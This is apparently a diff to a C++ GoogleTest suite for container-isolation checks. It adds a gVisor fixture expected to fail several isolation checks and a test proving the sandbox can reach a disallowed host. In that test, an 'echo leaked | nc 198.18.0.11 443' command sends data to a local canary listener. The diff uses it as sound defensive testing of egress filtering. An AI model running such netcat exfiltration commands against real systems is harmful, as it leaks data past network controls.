@@ -8,9 +8,11 @@
 #include <functional>
 #include <set>
 
+#include "clusters/world/netns_socket.h"
 #include "tests/docker/docker_test_env.h"
 #include "tests/isolation/family_runner.h"
 #include "tests/test_util.h"
+#include "tools/servers/canary_sink.h"
 
 namespace sandcheck::docker_testing {
 namespace {
@@ -55,9 +57,9 @@ TEST_P(DockerReferenceTest, HoldsEveryIsolationPromiseButItsFindings) {
   ASSERT_EQ(results.size(), 20u);
   for (const auto& [id, result] : results) {
     RecordProperty(id, result.summary);
-    Verdict expected = IsDocumentedSkip(deployment.runtime, id) ? Verdict::kSkip
-                       : GetParam().failing.contains(id)        ? Verdict::kFail
-                                                                : Verdict::kPass;
+    Verdict expected = GetParam().failing.contains(id)            ? Verdict::kFail
+                       : IsDocumentedSkip(deployment.runtime, id) ? Verdict::kSkip
+                                                                  : Verdict::kPass;
     EXPECT_EQ(result.verdict, expected)
         << id << " " << ToString(result.verdict) << ": " << result.summary << "\n"
         << result.evidence.dump(2);
@@ -67,12 +69,41 @@ TEST_P(DockerReferenceTest, HoldsEveryIsolationPromiseButItsFindings) {
 INSTANTIATE_TEST_SUITE_P(Docker, DockerReferenceTest,
                          ::testing::Values(DockerReference{"docker-reference-runc", {}},
                                            DockerReference{"docker-reference-runsc", {}},
-                                           DockerReference{"seed-001-phase01-docker", {"ISO-005"}}),
+                                           DockerReference{"seed-001-phase01-docker", {"ISO-005"}},
+                                           // run-claude.sh passes no hardening flag; gVisor
+                                           // mounts a /tmp of its own (ISO-010).
+                                           DockerReference{
+                                               "seed-003-run-claude-gvisor-docker",
+                                               {"ISO-003", "ISO-007", "ISO-008", "ISO-009",
+                                                "ISO-010", "ISO-017", "ISO-018", "ISO-019"}}),
                          [](const auto& info) {
                            std::string name = info.param.fixture;
                            std::replace(name.begin(), name.end(), '-', '_');
                            return name;
                          });
+
+// Seed 003's documented weakness, shown by doing: its gVisor container reaches a world host
+// no allowlist would let through (the "denied" host), because nothing filters egress. When the
+// egress checks land, their "outside the allowlist" check must fail on this fixture.
+TEST(Seed003OnDocker, ReachesAHostNoAllowlistAdmits) {
+  SKIP_WITHOUT_DOCKER_ENGINE();
+  ASSERT_OK_AND_ASSIGN(DockerSubstrate * substrate, SharedDockerSubstrate());
+  ASSERT_OK_AND_ASSIGN(Deployment deployment,
+                       LoadFixture("seed-003-run-claude-gvisor-docker.yaml"));
+  if (substrate->Capabilities(deployment.runtime).runtime_version.empty()) {
+    GTEST_SKIP() << "SKIPPED: runsc is not registered with this engine";
+  }
+  ASSERT_OK_AND_ASSIGN(World * world, substrate->EnsureWorld());
+  ASSERT_OK_AND_ASSIGN(int fd, ListenInNamespace(world->Host("denied")->path(), 443));
+  ASSERT_OK_AND_ASSIGN(auto denied, CanarySink::Start(fd));
+  ASSERT_OK_AND_ASSIGN(SandboxLease sandbox, substrate->Acquire(deployment, {.purpose = "seed3"}));
+  ExecRequest send;
+  send.argv = {"/bin/sh", "-c", "echo leaked | nc 198.18.0.11 443"};
+  ASSERT_OK_AND_ASSIGN(ProcessOutcome sent, sandbox->Exec(send));
+  EXPECT_TRUE(sent.Succeeded()) << sent.DescribeEnd() << ": " << sent.err;
+  ASSERT_OK_AND_ASSIGN(auto receipts, denied->WaitForReceipts(1, std::chrono::seconds(10)));
+  EXPECT_EQ(receipts[0].bytes, "leaked\n");
+}
 
 struct DockerControl {
   std::string fixture;
